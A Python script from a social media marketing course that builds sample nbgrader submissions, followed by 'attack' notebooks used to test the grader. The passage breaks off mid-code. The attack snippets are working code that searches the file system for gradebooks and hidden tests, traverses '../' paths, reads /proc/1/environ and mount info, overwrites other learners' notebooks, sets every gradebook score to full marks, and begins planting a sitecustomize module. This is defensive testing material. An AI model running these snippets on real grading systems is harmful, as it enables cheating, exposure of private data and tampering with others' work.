"""Rebuild the sample submissions of every assignment from its released notebook.

Run from the repository root:  python course/samples/make_samples.py

Each outcome folder ``<assignment>/<outcome>/`` holds what learner ``sample-<outcome>``
submitted (see course/README.md): the released notebook with that learner's answers typed
in, and ``timestamp.txt`` (when it was submitted, in nbgrader's format).  The released
notebooks are made by nbgrader itself (generate_assignment) in a temporary copy of the
course, so samples always match the source.

Assignment 01 has the whole sample class (ten outcomes, see the README); assignments 02–07
have ``all-correct``, ``late`` (the same answers, after the due date), ``partial`` (one
realistic mistake in one part) and ``blank`` (the released notebook untouched).  Answers are
code that computes from the learner's own data, so each runs for whoever submits it.

Submission times come from ``course/due_dates.csv``: on time is 21:15 Dhaka time the day
before the due date (1 day 2 h 44 min early); late is 1 day 10 h 6 min after it.

``attacks/<assignment>/<attack>/`` holds submissions that attack the grader (issue 6: endless
loops, memory and fork bombs, reading or writing other people's files, patched builtins,
tampered test cells, broken files, ...), one per learner ``attack-<attack>``, and
``attacks/README.md`` says what each tries and what grading must give it (see the
"attacks on the grader" part below).
"""

from __future__ import annotations

import datetime as dt
import json
import shutil
import tempfile
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]
ASSIGNMENT = "01-platforms-and-planning"
ON_TIME = "2026-09-19 15:15:00.000000 UTC"  # 21:15 in Dhaka, before the 23:59 deadline
LATE = "2026-09-22 04:05:00.000000 UTC"  # 10:05 in Dhaka, two days after
EARLY_BY = dt.timedelta(days=1, hours=2, minutes=44)  # ON_TIME = due - EARLY_BY
LATE_BY = dt.timedelta(days=1, hours=10, minutes=6)  # LATE = due + LATE_BY

CORRECT = {
    "engagement_rate_by_reach_answer": (
        'engaged = charity[["reactions", "comments", "shares", "saves"]].sum(axis=1)\n'
        "totals = (charity.assign(engagements=engaged)\n"
        '          .groupby("platform", observed=True)[["engagements", "reach"]].sum())\n'
        'er_by_platform = totals["engagements"] / totals["reach"]\n'
        "er_by_platform"
    ),
    "best_platform_answer": (
        "best_platform = str(er_by_platform.idxmax())\n"
        "best_rate_percent = round(100 * float(er_by_platform.max()), 1)\n"
        "best_platform, best_rate_percent"
    ),
    "smart_goal_answer": (
        'names = {"facebook": "Facebook", "instagram": "Instagram", "x": "X (Twitter)",\n'
        '         "linkedin": "LinkedIn", "youtube": "YouTube", "tiktok": "TikTok"}\n'
        "smart_goal = (f\"Grow Alo Reading Circle's {names[best_platform]} followers from "
        '5,000 to "\n              "5,600 by 30 June 2027 to recruit volunteers")\n'
        "check_goal(smart_goal).missing"
    ),
    "platform_recommendation": (
        "Focus on our best platform from Part 1 first: it engaged the largest share of the "
        "people it reached. Facebook reached more people but engaged fewer of them. A high "
        "rate on a small audience may still bring few volunteers, so we should track "
        "sign-ups too."
    ),
}


def _friend_answers() -> dict[str, str]:
    """Numbers typed in from a friend's (sample-all-correct's) notebook: not this learner's."""
    from smm_helpers.datasets import generate
    from smm_helpers.metrics import summarize

    posts = generate(n_posts=1_000, learner_id="sample-all-correct").posts
    rates = summarize(posts[posts["client"] == "nonprofit"])["er_reach"]
    typed = ", ".join(f'"{k}": {v!r}' for k, v in rates.items())
    return {
        **CORRECT,
        "engagement_rate_by_reach_answer": (
            f"er_by_platform = pd.Series({{{typed}}})\ner_by_platform"
        ),
    }


ANSWERS: dict[str, dict[str, str] | None] = {
    "all-correct": CORRECT,
    "late": CORRECT,
    "wrong-filename": CORRECT,
    "partial": {  # a mean of per-post rates (passes the visible checks, not the hidden one)
        **CORRECT,
        "engagement_rate_by_reach_answer": (
            'rate = charity[["reactions", "comments", "shares", "saves"]].sum(axis=1) '
            '/ charity["reach"]\n'
            'er_by_platform = rate.groupby(charity["platform"], observed=True).mean()\n'
            "er_by_platform"
        ),
        "best_platform_answer": (
            "from smm_helpers.metrics import summarize\n"
            'best_platform = str(summarize(charity)["er_reach"].idxmax())\n'
            'best_rate_percent = round(100 * float(summarize(charity)["er_reach"].max()), 1)'
        ),
    },
    "all-wrong": {
        "engagement_rate_by_reach_answer": (
            'totals = charity.groupby("platform", observed=True)[["reactions", "reach"]].sum()\n'
            'er_by_platform = 100 * totals["reactions"] / totals["reach"]  # a percentage'
        ),
        "best_platform_answer": 'best_platform = "myspace"',
        "smart_goal_answer": 'smart_goal = "Get more followers"',
        "platform_recommendation": "Post more.",
    },
    "blank": {},
    "infinite-loop": {
        **CORRECT,
        "engagement_rate_by_reach_answer": (
            "while True:  # waits forever: the grader stops it at the time limit\n"
            "    pass\n" + CORRECT["engagement_rate_by_reach_answer"]
        ),
    },
    "copied": None,  # filled from a friend's numbers below
}


# ------------------------------------------------------------------ assignments 02 to 07
# Each learner's answers are code on their own data; ``partial`` repeats ``all-correct``
# with one realistic mistake in one part (the comment says which parts it costs).

POLICY_02 = {
    "missing_sections_answer": (
        "missing_sections = list(lint_policy(draft).missing)\nmissing_sections"
    ),
    "completed_policy_answer": (
        "my_sections = {\n"
        '    "purpose": "## Why we use social media\\nWe show families what reading changes '
        'and we find volunteers. Every child in Dhaka should be able to read.",\n'
        '    "staff time": "## Social media at work\\nStaff may post for Alo in working '
        'hours. Personal accounts wait for the breaks.",\n'
        '    "spokespeople": "## Who speaks for us\\nThe Director is our only spokesperson. '
        'Pass every media question to her.",\n'
        '    "conversations": "## Answering comments and messages\\nThe Communications '
        'Officer answers the inbox within one working day.",\n'
        '    "tools": "## Tools and accounts\\nWe plan posts in Meta Business Suite. Each '
        'account has two-factor login.",\n'
        '    "escalation": "## When to escalate\\nA threat or a crisis goes to the Director '
        'at once.",\n'
        '    "privacy": "## Privacy and consent\\nWe keep messages confidential. We ask a '
        'parent before we post any photo of a child.",\n'
        '    "review": "## Review\\nThe team reviews this policy every year; next review '
        'date: June 2027.",\n'
        "}\n"
        'added = "\\n\\n".join(my_sections[name] for name in missing_sections)\n'
        'completed_policy = draft + "\\n" + added + "\\n"\n'
        "print(lint_policy(completed_policy))"
    ),
    "promise_hours_answer": (
        'alo_inbox = data.inbox[data.inbox["client"] == "nonprofit"]\n'
        'not_spam = alo_inbox[alo_inbox["category"] != "spam"]\n'
        "summary = metrics.response_summary(not_spam, by=None)\n"
        'promise_hours = math.ceil(summary["p90_hours"].iloc[0])\n'
        "promise_hours"
    ),
    "policy_answers_answer": (
        "answers = PolicyAnswers(\n"
        '    organisation="Alo Reading Circle",\n'
        '    purpose="We help children in Dhaka learn to read; we are honest and kind",\n'
        '    work_hours_use="Staff and volunteers may post for Alo at work; personal use '
        'waits for breaks",\n'
        '    not_allowed=["political opinions on Alo\'s accounts", "a child\'s name or school"],\n'
        '    spokespeople=["Director", "Board chair"],\n'
        '    responders=["Social media volunteer", "Director"],\n'
        "    response_time_hours=promise_hours,\n"
        '    tools=["Facebook", "Instagram", "Meta Business Suite"],\n'
        '    account_access="Two people have their own Page access, removed when they leave",\n'
        '    escalation_contacts=["Director", "Board chair"],\n'
        '    crisis_contact="Director",\n'
        '    photo_consent="a parent or guardian signs our consent form",\n'
        '    review_date="2027-06-30",\n'
        ")\n"
        "my_policy = write_policy(answers)\n"
        "print(my_policy)"
    ),
    "social_media_policy_for_alo": (
        "# Alo Reading Circle — our social media policy\n\n"
        "## Why we post\nWe show families and donors what reading changes for children in "
        "Dhaka, and we find volunteers. We are honest and kind, and we protect the children.\n\n"
        "## At work\nStaff post for Alo during working hours from Alo's accounts only. "
        "Personal use waits for breaks. No politics or religion on Alo's accounts.\n\n"
        "## Who speaks for us\nOnly the Director speaks to journalists (the board chair when "
        "she is away). Everyone "
        "else passes media questions to her the same day.\n\n"
        "## Tools and accounts\nFacebook, Instagram and Meta Business Suite. Our social media "
        "volunteer and the Director each have their own Page access; nobody shares a password. "
        "Every account has two-factor login. A leaver's access is removed that day.\n\n"
        "## Comments and messages\nOur social media volunteer answers, Sunday to Thursday, "
        "within the hours of our promise in Part 3, in the language the person wrote in.\n\n"
        "## Escalation, privacy and consent\nA threat or anything about a child's safety goes "
        "to the Director at once. We post a child's photo only with a parent's "
        "signed consent, and never a child's name or school.\n\n"
        "## Review\nThe Director reviews this policy every June."
    ),
}

CONTENT_03 = {
    "x_length_answer": 'x_length = check_post(post_text, "x").length\nx_length',
    "youtube_bytes_answer": 'youtube_bytes = len(post_text.encode("utf-8"))\nyoutube_bytes',
    "hashtag_counts_answer": (
        'instagram = nonprofit[nonprofit["platform"] == "instagram"]\n'
        "tags = Counter()\n"
        'for caption in instagram["caption"]:\n'
        "    tags.update(extract_hashtags(caption))\n"
        "hashtag_counts = dict(tags)\n"
        "sorted(hashtag_counts.items(), key=lambda pair: -pair[1])[:5]"
    ),
    "best_slot_answer": (
        "table = metrics.best_time_table(instagram, min_posts=5)\n"
        "top = table.best(1)\n"
        'best_slot = (str(top["weekday"].iloc[0]), int(top["hour"].iloc[0]))\n'
        "best_slot"
    ),
    "calendar_answer": (
        'calendar = build_calendar(START, weeks=4, platforms=["facebook", "instagram", "x"],\n'
        "                          posts_per_week=POSTS_PER_WEEK)\n"
        'days = calendar.events[calendar.events["kind"] == "special_day"]\n'
        'special_day_names = sorted(days["title"].unique())\n'
        "calendar.post_counts(), special_day_names"
    ),
    "my_x_post_answer": (
        'first_day = days.sort_values("start")["title"].iloc[0]\n'
        'my_x_post = (f"Happy {first_day}! Our reading circle in Korail is reading stories "\n'
        '             "about it all week. Read one with a child today. #AloReads")\n'
        'check_post(my_x_post, "x")'
    ),
    "why_this_slot_and_format": (
        "I would publish the Instagram post for our first special day in our best trusted "
        "slot from Part 4, on the day itself if it falls on that weekday: at least five of "
        "Alo's own posts stand behind that slot, so it is not one lucky post. I would use a "
        "carousel of the children's drawings, because it tells the day's story slide by "
        "slide. Published best-times studies use US "
        "audiences with a Saturday–Sunday weekend, while Bangladesh's weekend is Friday–"
        "Saturday, so we trust our own data. Instagram allows at most 5 hashtags per post, so "
        "I keep to one or two of Alo's own tags."
    ),
}

COMMUNITY_04 = {
    "response_rate_np_answer": (
        'alo = inbox[(inbox["client"] == "nonprofit") & (inbox["category"] != "spam")]\n'
        "response_rate_np = float(metrics.response_rate(alo))\n"
        "response_rate_np"
    ),
    "median_hours_np_answer": (
        "median_hours_np = float(metrics.response_times(alo).median())\nmedian_hours_np"
    ),
    "queue_ids_answer": (
        'business = inbox[inbox["client"] == "business"]\n'
        'at_now = business[business["received_at"] < NOW].copy()\n'
        'at_now.loc[at_now["responded_at"] > NOW, "responded_at"] = pd.NaT  # not sent yet\n'
        "queue = escalation_queue(at_now, now=NOW)\n"
        'queue_ids = list(queue["message_id"])\n'
        'queue[["message_id", "platform", "age_hours", "urgency_label", "text"]].head()'
    ),
    "classifier_agreement_answer": (
        "first_40 = inbox.head(40)\n"
        'predicted = [classify_message(text).category for text in first_40["text"]]\n'
        'matches = sum(p == label for p, label in zip(predicted, first_40["category"]))\n'
        "agreement = matches / 40\n"
        "agreement"
    ),
    "reply_to_unhappy_customer": (
        "**Reply:** We're sorry your order was not what you expected, and sorry we took so "
        "long to answer — that is our mistake. Please send your order number to our inbox "
        "(not here, and no phone number or address in public). We will write to you there "
        "by 6 pm today with a replacement or a refund.\n\n"
        "**To my manager:** this complaint waited for weeks at NOW because nobody owned "
        "weekend complaints; from now on the Sunday-morning shift opens the escalation queue "
        "first and answers every complaint within 24 hours."
    ),
}

ANALYTICS_05 = {
    "platform_summary_answer": (
        'platform_summary = metrics.summarize(alo_posts, by="platform")\n'
        'platform_summary[["posts", "reach", "engagements", "er_reach"]]'
    ),
    "best_week_answer": (
        'weekly = metrics.summarize(alo_posts, by="week")\n'
        'best_week = weekly["engagements"].idxmax().strftime("%Y-%m-%d")\n'
        "best_week"
    ),
    "best_week_engagements_answer": (
        'best_week_engagements = int(weekly["engagements"].max())\nbest_week_engagements'
    ),
    "ab_test_answer": (
        'links = alo_posts[(alo_posts["platform"] == "facebook")\n'
        '                  & (alo_posts["format"] == "link")]\n'
        'totals = links.groupby("language", observed=True)[["link_clicks", "reach"]].sum()\n'
        'english, bengali = totals.loc["en"], totals.loc["bn"]\n'
        'ab = metrics.ab_test(int(english["link_clicks"]), int(english["reach"]),\n'
        '                     int(bengali["link_clicks"]), int(bengali["reach"]))\n'
        "if ab.significant:\n"
        '    ab_verdict = "A" if ab.rate_a > ab.rate_b else "B"\n'
        "else:\n"
        '    ab_verdict = "no clear winner"\n'
        "print(ab)\n"
        "ab_verdict"
    ),
    "growth_answer": (
        'growth = metrics.follower_growth(followers, freq="M")\n'
        'alo_instagram = growth.loc[("nonprofit", "instagram")]\n'
        'year_gain = int(alo_instagram["gained"].sum())\n'
        'best_growth_month = alo_instagram["growth_rate"].idxmax().strftime("%Y-%m")\n'
        "year_gain, best_growth_month"
    ),
    "client_report_summary": (
        "In 2025 Alo Reading Circle's Instagram gained the followers shown in Part 4, and of "
        "our platforms Instagram had the largest share of people reached who reacted, "
        "commented or shared. Our best week was the one from Part 2, around a special day "
        "people already care about, so posts tied to those days work for us. We compared "
        "English and Bengali captions on our Facebook link posts; the test in Part 3 tells "
        "us honestly whether one is really better or whether there is no clear winner yet. "
        "Next year we recommend preparing every special day's posts a week ahead and putting "
        "more of the team's time into Instagram. One caution: these numbers measure "
        "attention, not donations, and reach counts a person reached twice as two."
    ),
}

BUDGET_06 = {
    "cost_per_result_answer": (
        'gifts = alo_campaigns[alo_campaigns["objective"] == "donations"]\n'
        'by_platform = gifts.groupby("platform", observed=True)[["spend", "conversions"]].sum()\n'
        'with_results = by_platform[by_platform["conversions"] > 0]\n'
        'cost_per_donation = (with_results["spend"] / with_results["conversions"]).to_dict()\n'
        "cost_per_donation"
    ),
    "split_answer": (
        "split = allocate_budget(TOTAL_BUDGET, list(cost_per_donation),\n"
        "                        cost_per_result=cost_per_donation, saturation=SATURATION)\n"
        "split"
    ),
    "roi_answer": (
        'donations = alo_campaigns[alo_campaigns["objective"] == "donations"]\n'
        'biggest = donations.sort_values("spend", ascending=False).iloc[0]\n'
        'biggest_roi = roi(biggest["conversion_value"], biggest["spend"], margin=1)\n'
        'average_donation = biggest["conversion_value"] / biggest["conversions"]\n'
        'break_even_donations = break_even(cost=biggest["spend"],\n'
        "                                  value_per_result=average_donation, margin=1)\n"
        "biggest_roi, break_even_donations"
    ),
    "disclosure_answer": (
        "disclosure_ok = [check_disclosure(post).ok for post in sponsored_posts]\n"
        "n_unsourced = len(unsourced_claims(caption))\n"
        "disclosure_ok, n_unsourced"
    ),
    "bought_followers_answer": (
        "spikes = detect_fake_engagement(suspect_posts, suspect_followers).follower_spikes\n"
        "bought_follower_days = sorted(\n"
        '    (str(row.client), str(row.platform), pd.Timestamp(row.date).strftime("%Y-%m-%d"))\n'
        "    for row in spikes.itertuples())\n"
        "bought_follower_days"
    ),
    "ethics_judgement_on_sponsored_post": (
        "I would not approve the post as it stands. check_disclosure finds no clear label: "
        '"#collab" is too vague for the FTC, and it is buried among the hashtags, so people '
        'cannot tell Nakshi Ghor paid for it. unsourced_claims flags "95% of buyers never need '
        'another", and "the strongest bag in Bangladesh" cannot be proven either; source '
        'article 004 warns against publishing false information. A fixed first line: "Paid '
        "partnership with Nakshi Ghor: my new jute bag for Eid 🌙\", with Instagram's paid "
        "partnership label switched on too. Say no to the 5,000 followers: in the US the FTC's "
        "2024 rule (16 CFR 465.8) bans buying fake indicators of influence, bought followers "
        "never buy a bag, and they lower the engagement rate brands judge the account by; "
        "traffic won that way does not last. The FTC's rule is US law and does not bind a "
        "Dhaka shop selling to Bangladeshis, but it names the same deception."
    ),
}

CAPSTONE_07 = {
    "baseline_answer": (
        'q4_posts = q4(data.posts, "published_at")\n'
        'q4_instagram = q4_posts[q4_posts["platform"] == "instagram"]\n'
        'engaged = q4_instagram[["reactions", "comments", "shares", "saves"]].sum().sum()\n'
        "baseline = {\n"
        '    "er_reach_instagram": float(engaged / q4_instagram["reach"].sum()),\n'
        '    "median_response_hours":\n'
        '        float(metrics.response_times(q4(data.inbox, "received_at")).median()),\n'
        "}\n"
        "baseline"
    ),
    "plan_answer": (
        "plan = SocialMediaPlan(\n"
        "    goals=[\n"
        '        Target("er_reach", round(baseline["er_reach_instagram"] * 1.2, 4),\n'
        '               platform="instagram"),\n'
        '        Target("median_response_hours",\n'
        '               round(baseline["median_response_hours"] * 0.8, 1)),\n'
        '        Target("posts_per_week", 5, platform="facebook"),\n'
        '        Target("posts_per_week", 4, platform="instagram"),\n'
        "    ],\n"
        '    audience="parents in Dhaka\'s low-income neighbourhoods and young volunteers",\n'
        "    platforms=PLATFORMS,\n"
        '    pillars={"impact stories": 0.3, "volunteer calls": 0.2, "fundraising": 0.15,\n'
        '             "literacy tips": 0.2, "events": 0.15},\n'
        "    budget=BUDGET,\n"
        '    measurement="We review the plan on 1 March 2026 against February\'s data.",\n'
        '    client="nonprofit",\n'
        '    name="Alo Reading Circle, February 2026",\n'
        ")\n"
        "plan"
    ),
    "calendar_answer": (
        'alo_instagram = alo_posts[alo_posts["platform"] == "instagram"]\n'
        "per_week = {t.platform: int(t.target)\n"
        '            for t in plan.goals if t.metric == "posts_per_week"}\n'
        "calendar = build_calendar(\n"
        "    FEBRUARY, weeks=4, platforms=PLATFORMS, posts_per_week=per_week,\n"
        "    pillar_mix=dict(plan.pillars),\n"
        '    best_slots={"instagram": metrics.best_time_table(alo_instagram, min_posts=5)},\n'
        ")\n"
        "calendar.post_counts()"
    ),
    "split_answer": (
        'alo_campaigns = data.campaigns[data.campaigns["client"] == "nonprofit"]\n'
        'gifts = alo_campaigns[alo_campaigns["objective"] == "donations"]\n'
        'totals = gifts.groupby("platform", observed=True)[["spend", "conversions"]].sum()\n'
        'every_gift = float(totals["spend"].sum() / totals["conversions"].sum())\n'
        "cost_per_donation = {\n"
        '    p: float(totals.loc[p, "spend"] / totals.loc[p, "conversions"])\n'
        '    if p in totals.index and totals.loc[p, "conversions"] > 0 else every_gift\n'
        "    for p in plan.platforms}\n"
        "split = allocate_budget(plan.budget, plan.platforms, cost_per_result=cost_per_donation,\n"
        "                        saturation=SATURATION)\n"
        "split"
    ),
    "capstone_plan_write_up": (
        "## Where we stand\nIn October–December 2025 the baseline of Part 1 shows how many of "
        "the people our Instagram posts reached reacted, commented or shared, and how long a "
        "message waited for an answer.\n\n"
        "## Goals for February 2026\n- Raise Instagram's engagement rate by reach by a fifth "
        "by 28 February, so more parents share our children's stories.\n- Cut the median "
        "wait for an answer by a fifth by 28 February, because a parent who waits a day often "
        "doesn't come.\n- Publish 5 Facebook and 4 Instagram posts every week.\n\n"
        "## Platforms and audience\nParents are on Facebook and our young volunteers are on "
        "Instagram.\n\n"
        "## Content\nImpact stories 30%, literacy tips 20%, volunteer calls 20%, fundraising "
        "15%, events 15%; Pohela Falgun and International Mother Language Day, prepared a "
        "week ahead.\n\n"
        "## When\nInstagram posts go out only in slots backed by at least five of our own "
        "posts; published best times use a Saturday–Sunday weekend, ours is Friday–Saturday.\n\n"
        "## Budget\nThe split of Part 4, priced by what a donation cost us in our donations "
        "campaigns, makes the next donation cost the same on both platforms, so moving money "
        "would buy fewer donations.\n\n"
        "## Community and ethics\nOur volunteer checks the inbox three times a day, Sunday to "
        'Thursday; partner posts say "Paid partnership" first; no bought followers, no '
        "unsourced numbers.\n\n"
        "## Measurement\nOn 1 March we report each target, met or missed, and change what "
        "missed."
    ),
}

SAMPLES: dict[str, dict[str, dict[str, str]]] = {
    "02-policy": {
        "all-correct": POLICY_02,
        "late": POLICY_02,
        "blank": {},
        "partial": {  # a median ("a typical wait") instead of the 90th percentile: Part 3
            **POLICY_02,  # fails; Part 4 is judged on that promise, so it passes
            "promise_hours_answer": POLICY_02["promise_hours_answer"].replace(
                '"p90_hours"', '"median_hours"'
            ),
        },
    },
    "03-content-and-scheduling": {
        "all-correct": CONTENT_03,
        "late": CONTENT_03,
        "blank": {},
        "partial": {  # counts the hashtags of all Alo's posts, not only Instagram: Part 3
            **CONTENT_03,
            "hashtag_counts_answer": (
                'instagram = nonprofit[nonprofit["platform"] == "instagram"]\n'
                "tags = Counter()\n"
                'for caption in nonprofit["caption"]:\n'
                "    tags.update(extract_hashtags(caption))\n"
                "hashtag_counts = dict(tags)\n"
                "sorted(hashtag_counts.items(), key=lambda pair: -pair[1])[:5]"
            ),
        },
    },
    "04-community": {
        "all-correct": COMMUNITY_04,
        "late": COMMUNITY_04,
        "blank": {},
        "partial": {  # the mean wait instead of the median: Part 2
            **COMMUNITY_04,
            "median_hours_np_answer": (
                "median_hours_np = float(metrics.response_times(alo).mean())\nmedian_hours_np"
            ),
        },
    },
    "05-analytics-and-reporting": {
        "all-correct": ANALYTICS_05,
        "late": ANALYTICS_05,
        "blank": {},
        "partial": {  # er_reach as the mean of per-post rates, not a ratio of sums: Part 1
            **ANALYTICS_05,
            "platform_summary_answer": (
                'engaged = ["reactions", "comments", "shares", "saves"]\n'
                "engagements = alo_posts[engaged].sum(axis=1)\n"
                "per_post = alo_posts.assign(engagements=engagements,\n"
                '                            er_reach=engagements / alo_posts["reach"])\n'
                'platform_summary = per_post.groupby("platform", observed=True).agg(\n'
                '    posts=("post_id", "count"), reach=("reach", "sum"),\n'
                '    engagements=("engagements", "sum"), er_reach=("er_reach", "mean"))\n'
                'platform_summary[["posts", "reach", "engagements", "er_reach"]]'
            ),
        },
    },
    "06-budget-and-ethics": {
        "all-correct": BUDGET_06,
        "late": BUDGET_06,
        "blank": {},
        "partial": {  # the mean of each campaign's cost, not total spend ÷ total conversions:
            **BUDGET_06,  # Part 1 fails; Part 2 is judged on those costs, so it passes
            "cost_per_result_answer": (
                'gifts = alo_campaigns[alo_campaigns["objective"] == "donations"]\n'
                'converted = gifts[gifts["conversions"] > 0]\n'
                'per_campaign = converted["spend"] / converted["conversions"]\n'
                'by_platform = per_campaign.groupby(converted["platform"], observed=True)\n'
                "cost_per_donation = by_platform.mean().to_dict()\n"
                "cost_per_donation"
            ),
        },
    },
    "07-capstone": {
        "all-correct": CAPSTONE_07,
        "late": CAPSTONE_07,
        "blank": {},
        "partial": {  # an over-ambitious target, double the baseline rate: Part 2 only
            **CAPSTONE_07,
            "plan_answer": CAPSTONE_07["plan_answer"].replace(
                'baseline["er_reach_instagram"] * 1.2', 'baseline["er_reach_instagram"] * 2'
            ),
        },
    },
}


def stamps(due: dt.datetime) -> tuple[str, str]:
    """When an on-time and a late learner submitted, in nbgrader's timestamp format.

    >>> stamps(dt.datetime.fromisoformat("2026-09-20T23:59:00+06:00")) == (ON_TIME, LATE)
    True
    """

    def fmt(when: dt.datetime) -> str:
        return when.astimezone(dt.UTC).strftime("%Y-%m-%d %H:%M:%S.%f UTC")

    return fmt(due - EARLY_BY), fmt(due + LATE_BY)


def released_notebooks(
    assignments: list[str],
) -> tuple[dict[str, nbformat.NotebookNode], dict[str, dt.datetime]]:
    """Each assignment's released notebook (made by nbgrader) and the course's due dates."""
    from smm_helpers.grading.course import open_course

    with tempfile.TemporaryDirectory() as tmp:
        shutil.copytree(
            REPO / "course",
            Path(tmp) / "course",
            ignore=shutil.ignore_patterns(
                "samples",
                "gradebook.db",
                "release",
                "exchange",
                "submitted",
                "autograded",
                "feedback",
                "archive",
                "grades",
            ),
        )
        course = open_course(Path(tmp) / "course")
        templates = {}
        for assignment in assignments:
            shutil.copytree(
                REPO / "assignments" / assignment, Path(tmp) / "assignments" / assignment
            )
            result = course.api().generate_assignment(assignment)
            if not result["success"]:
                raise SystemExit(result.get("error") or result.get("log"))
            released = course.path("release") / assignment / f"{assignment}.ipynb"
            templates[assignment] = nbformat.read(released, as_version=4)
        return templates, course.due_dates()


def write_sample(
    folder: Path,
    template: nbformat.NotebookNode,
    filled: dict[str, str] | None,
    name: str,
    stamp: str,
) -> None:
    """The released notebook with ``filled`` answers (by grade_id) typed in, and its time."""
    nb = nbformat.from_dict(template)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if filled and grade_id in filled:
            cell.source = filled[grade_id]
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / name)
    (folder / "timestamp.txt").write_text(stamp + "\n")


# ------------------------------------------------------------------ attacks on the grader
# Issue 6: submissions that try to cheat, to crash or hang the grading run, or to reach the
# gradebook, the hidden tests and other learners' files.  ``attacks/<assignment>/<attack>/``
# is what learner ``attack-<attack>`` submitted, made from the released notebook like every
# sample; ``attacks/README.md`` (written below) says what each tries and what grading must
# give it.  They live outside ``<assignment>/`` so the sample class keeps its ten outcomes.
#
# A cheat carries no honest answer, so it earns 0.  The few marked "answered" also answer
# every part correctly, to show that the trick neither gains nor loses anything: they earn
# the 7 automatic points of an honest notebook, never more.

ATTACKS = HERE / "attacks"
ER, BEST, GOAL = "engagement_rate_by_reach_answer", "best_platform_answer", "smart_goal_answer"
TESTS = ("engagement_rate_by_reach", "best_platform", "smart_goal")
DAEMON_MARK = "smm-attack-daemon"
"""In the command line of the process the ``daemon`` attack leaves behind (tests look for it)."""


def _code(text: str) -> str:
    return textwrap.dedent(text).strip("\n")


@dataclass(frozen=True)
class Attack:
    """One attack: what it tries, what it must earn, and how its notebook is made."""

    tries: str
    """What it tries, in an instructor's words."""
    score: int
    """The automatic points it must earn (of 7)."""
    kinds: tuple[str, ...]
    """The problem kinds the autograde summary must name for it."""
    answers: dict[str, str] = field(default_factory=dict)
    """Code typed into the released notebook, by grade_id (as for the samples)."""
    edit: Callable[[dict[str, Any]], None] | None = None
    """A change to the notebook's JSON (test cells, ids, metadata)."""
    raw: bytes | None = None
    """The notebook file's bytes, when it is not a notebook at all."""
    name: str | None = f"{ASSIGNMENT}.ipynb"
    """The notebook's file name (None: no notebook)."""


SEARCH_FILE_SYSTEM = _code("""
    # Attack: search the whole file system for the gradebook, the instructor's notebook (with
    # its hidden tests) and other learners' notebooks, and print whatever turns up.
    import os
    import time

    WANTED = {"gradebook.db", "nbgrader_config.py", "roster.csv"}
    SKIP = {"/proc", "/sys", "/dev", "/usr", os.path.expanduser("~")}  # not a course's place
    deadline = time.monotonic() + 3  # stay inside the cell's time limit
    found = []
    for top, folders, files in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(top, f) not in SKIP
                      and f not in ("site-packages", "__pycache__")]
        if time.monotonic() > deadline:
            break
        for name in files:
            path = os.path.join(top, name)
            if name in WANTED:
                found.append(path)
            elif name.endswith(".ipynb"):
                try:
                    with open(path, encoding="utf-8") as notebook:
                        text = notebook.read()
                except (OSError, UnicodeDecodeError):
                    continue
                if "HIDDEN TESTS" in text or "engagement_rate_by_reach" in text:
                    found.append(path)
    print("found:", found)""")

CLIMB_TO_READ = _code("""
    # Attack: climb out of the learner's folder with ../ to where nbgrader keeps the
    # gradebook, the instructor's source and everyone's submissions; peek at the first
    # process's files too.
    import os

    A = "01-platforms-and-planning"
    TARGETS = ["gradebook.db", "nbgrader_config.py", f"source/{A}/{A}.ipynb",
               f"assignments/{A}/{A}.ipynb", f"submitted/sample-all-correct/{A}/{A}.ipynb",
               f"sample-all-correct/{A}/{A}.ipynb", f"autograded/sample-all-correct/{A}/{A}.ipynb"]
    found = []
    for depth in range(1, 9):
        for target in TARGETS:
            try:
                with open("../" * depth + target, "rb") as file:
                    found.append(("../" * depth + target, len(file.read())))
            except OSError:
                pass
    for path in ("/proc/1/root", "/proc/1/cwd"):
        try:
            found.append((path, os.listdir(path)))
        except OSError:
            pass
    try:
        with open("/proc/1/environ", "rb") as file:
            found.append(("/proc/1/environ", file.read()))
    except OSError:
        pass
    print("found:", found)""")

LEARN_PLACES_TO_READ = _code("""
    # Attack: learn where the course is from the environment and from the folders mounted
    # into this machine, then look for the gradebook and submissions around each of them.
    import os
    from pathlib import Path

    places = {p for value in os.environ.values() for p in value.split(":") if p.startswith("/")}
    with open("/proc/self/mountinfo") as mounts:
        places |= {line.split()[3] for line in mounts}  # each mount's folder on the host
    own = os.path.expanduser("~")
    found = set()
    for place in places:
        for folder in [Path(place), *Path(place).parents]:
            for target in ("gradebook.db", "course/gradebook.db", "nbgrader_config.py",
                           "course/nbgrader_config.py", "submitted", "course/submitted",
                           "assignments", "course/source", "exchange"):
                path = folder / target
                try:
                    if path.exists() and not str(path).startswith(own):
                        found.add(str(path))
                except OSError:  # not allowed to look there
                    pass
    print("found:", sorted(found))""")

CLIMB_TO_WRITE = _code("""
    # Attack: climb out of the learner's folder and change the gradebook and another
    # learner's notebook (appending a line; a real attack would rewrite the scores).
    A = "01-platforms-and-planning"
    TARGETS = ["gradebook.db", f"submitted/sample-all-correct/{A}/{A}.ipynb",
               f"sample-all-correct/{A}/{A}.ipynb", f"source/{A}/{A}.ipynb",
               f"assignments/{A}/{A}.ipynb", "nbgrader_config.py", "roster.csv"]
    changed = []
    for depth in range(1, 9):
        for target in TARGETS:
            try:
                with open("../" * depth + target, "r+b") as file:  # files that exist
                    file.seek(0, 2)
                    file.write(b"\\n# changed by attack-write-files\\n")
                changed.append("../" * depth + target)
            except OSError:
                pass
    print("changed:", changed)""")

REWRITE_GRADEBOOK = _code("""
    # Attack: open any gradebook it can reach as a database and give everyone full marks.
    import sqlite3

    candidates = ["../" * depth + "gradebook.db" for depth in range(1, 9)]
    candidates += ["/srv/nbgrader/gradebook.db", "/home/instructor/course/gradebook.db",
                   "/course/gradebook.db", "/tmp/gradebook.db"]
    changed = []
    for path in candidates:
        try:
            with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as db:
                db.execute("UPDATE grade SET manual_score = max_score")
            changed.append(path)
        except sqlite3.Error:
            pass
    print("changed:", changed)""")

PLANT_CODE = _code("""
    # Attack: plant code the grader itself would run: a sitecustomize module beside Python's
    # libraries (every Python imports it when it starts), and a changed SMM Lab check.
    import os
    import site

    import smm_helpers.checks.asserts as asserts

    changed = []
    for folder in [*site.getsitepackages(), os.path.dirname(os.__file__)]:
        try:
